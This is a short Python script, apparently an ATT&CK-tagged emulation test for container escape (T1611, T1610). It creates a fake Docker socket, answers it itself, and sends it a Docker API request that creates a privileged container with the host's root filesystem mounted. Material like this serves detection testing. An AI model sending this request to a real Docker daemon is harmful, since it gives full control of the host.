#!/usr/bin/env python3
# title: A container that has Docker's socket asks for a container with all of the host
# technique: T1611 T1610
# needs: python3
# in: container
# short: yes

import os, socket, threading
os.makedirs("/var/run", exist_ok=True)
path = "/var/run/docker.sock"
listener = socket.socket(socket.AF_UNIX); listener.bind(path); listener.listen(1)
def daemon():
    c, _ = listener.accept(); c.recv(4096); c.sendall(b"HTTP/1.1 201 Created\r\nContent-Length: 2\r\n\r\n{}"); c.close()
threading.Thread(target=daemon, daemon=True).start()
s = socket.socket(socket.AF_UNIX); s.connect(path)
body = b'{"Image":"x","HostConfig":{"Binds":["/:/h"],"Privileged":true}}'
s.sendall(b"POST /containers/create HTTP/1.1\r\nHost: d\r\nContent-Length: %d\r\n\r\n" % len(body) + body)
s.recv(100)
